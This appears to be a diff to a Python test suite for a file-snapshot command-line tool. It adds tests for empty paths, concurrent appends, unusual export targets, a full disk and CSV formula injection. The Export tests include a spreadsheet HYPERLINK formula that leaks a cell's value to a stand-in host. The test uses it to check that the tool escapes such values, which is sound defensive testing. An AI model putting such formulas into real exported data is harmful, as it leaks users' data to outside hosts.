@@ -120,6 +120,19 @@ class Scan(CliTest):
         self.ok("scan", self.other, "--title", "T", "--append", odd)
         self.assertEqual(self.ok("list", odd), b"9 R\n  200 x\n9 T\n  2 x.zip\n")
 
+    def test_empty_paths_are_no_files_and_concurrent_appends_all_survive(self):
+        s, to = self.scan(self.other, "T"), self.path("n.zelv")
+        for command, args in [("scan", ["", "-o", to]), ("scan", [self.other, "-o", ""]),
+                              ("scan", [self.other, "--append", ""]), ("info", [""]), ("list", [""]),
+                              ("export", ["", "-f", "csv"]), ("export", [s, "-f", "csv", "-o", ""]),
+                              ("diff", [s, ""]), ("search", ["", "x"]), ("import", ["", "-o", to]),
+                              ("import", [s, "-o", ""]), ("merge", [s, "", "-o", to]), ("unique", [""])]:
+            self.fails(command, [(args, "zelvane-cli: '': No such file or directory")])
+        loop = 'for i in $(seq 50); do "$0" scan "$1" --append "$2" >/dev/null || exit 1; done'
+        runs = [subprocess.Popen(["sh", "-c", loop, CLI, self.other, s]) for _ in range(2)]
+        self.assertEqual([r.wait(timeout=120) for r in runs], [0, 0])
+        self.assertEqual(len(self.roots(s)), 101)
+
     @unittest.skipIf(os.geteuid() == 0 and not shutil.which("setpriv"), "root without setpriv")
     def test_folders_that_cannot_be_read_are_named_and_the_capture_saved(self):
         locked = self.tree("locked", ["open/a/f.txt", "shut/", "open/also shut/"])
@@ -409,7 +422,7 @@ class Search(CliTest):  # what each option changes; how names match: the matcher
         self.assertEqual([json.loads(row)["file"] for row in got.splitlines()], [t, s, s])
         self.fails("search", [([s], "a snapshot file and a pattern are needed"),
             ([s, ""], "the pattern is empty"), (["-e", "x"], "a snapshot file is needed"),
-            (["", "x"], "the snapshot file name is empty"), ([s, "x", "-e"], "-e needs a value"),
+            ([s, "x", "-e"], "-e needs a value"),
             ([s, "x", "--wha"], "unknown option '--wha'"), ([s, "x", "--kinds"], "--kinds needs a"),
             ([s, "x", "--glob", "--regex"], "--glob and --regex do not go together"),
             ([s, "x", "--ma"], "option '--ma' is ambiguous (--match-case or --max-results)"),
@@ -655,6 +668,56 @@ class Export(CliTest):  # read back with Python's own parsers
         got = subprocess.run(["node", "-e", script], input=json.dumps(cases).encode(),
                              capture_output=True, timeout=60).stdout
         self.assertEqual((len(cases), json.loads(got)), (37, [c[4] for c in cases]))
+
+    def test_hostile_targets_full_disks_and_spreadsheet_formulas(self):
+        csv_out, s = self.export("csv"), self.s
+        for out, inode in [("t.csv", "hard"), ("link", "other"), ("/dev/stdout", "same"),
+                           ("/dev/fd/9", "same"), ("/proc/self/fd/9", "same"), ("L" * 250, "other")]:
+            with self.subTest(out=out):
+                t = self.write(out if out[0] == "L" else "t.csv", b"old")
+                os.chmod(t, 0o600)
+                before, target = os.stat(t).st_ino, out if out[0] == "/" else self.path(out)
+                os.link(t, self.path("hard")) if inode == "hard" else None
+                os.symlink(t, self.path("link")) if out == "link" else None
+                with open(t, "r+b") as opened:
+                    os.dup2(opened.fileno(), 9, inheritable=False)
+                    self.ok("export", s, "-f", "csv", "-o", target, pass_fds=[9],
+                            stdout=opened if out == "/dev/stdout" else subprocess.PIPE)
+                after = os.stat(t)
+                self.assertEqual((self.read(t), after.st_mode & 0o777, after.st_ino == before),
+                                 (csv_out, 0o600, inode != "other"))
+                self.assertEqual(self.read("hard") if inode == "hard" else csv_out, csv_out)
+                for name in ["hard", "link", t]:
+                    pathlib.Path(self.path(name)).unlink(missing_ok=True)
+        os.mkfifo(self.path("fifo"))
+        with subprocess.Popen(["cat", self.path("fifo")], stdout=subprocess.PIPE) as reader:
+            self.ok("export", s, "-f", "csv", "-o", self.path("fifo"))
+            self.assertEqual(reader.communicate(timeout=60)[0], csv_out)
+        os.symlink(s, self.path("s-link"))
+        same = s + ": the output file is one of the input files"
+        self.fails("export", [([s, "-f", "csv", "-o", s], same)])
+        self.fails("list", [([self.path("s-link"), "-o", s], same)])
+        self.assertEqual(self.roots(s), ["9 Disk"])
+        names = ['=HYPERLINK("http://example.invalid/?leak="&B2,"Open")', "+1", "-2", "@A", "\tx",
+                 "\rx", "a=b"]
+        f = self.snapshot("f.zelv", [(9, 0, "=R")] + [(5, 1, n) for n in names])
+        for raw, mark in [([], "'"), (["--csv-raw"], "")]:
+            out = self.ok("export", f, "-f", "csv", *raw).decode()
+            rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
+            self.assertEqual([r[:2] for r in rows], [[mark + "=R"] * 2] + [
+                [mark + "=R/" + n, (mark if n[0] in "=+-@\t\r" else "") + n] for n in names])
+
+    @unittest.skipUnless(os.geteuid() == 0, "mounting a small full disk needs root")
+    def test_a_full_disk_is_told_with_the_file_and_leaves_it(self):
+        disk, big = self.path("full"), self.snapshot("big.zelv", D + [(5, 1, "f" * 99)] * 2000)
+        os.mkdir(disk)
+        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", disk]).returncode:
+            self.skipTest("a tmpfs cannot be mounted here")
+        self.addCleanup(subprocess.run, ["umount", disk])
+        out = self.write("full/out.csv", b"old")
+        self.fails("export", [([big, "-f", "csv", "-o", out], out + ": No space left on device")])
+        self.assertEqual((os.listdir(disk), self.read("full/out.csv")), (["out.csv"], b"old"))
+
 
 class Import(CliTest):  # the same tree as scan gives, from every listing
 
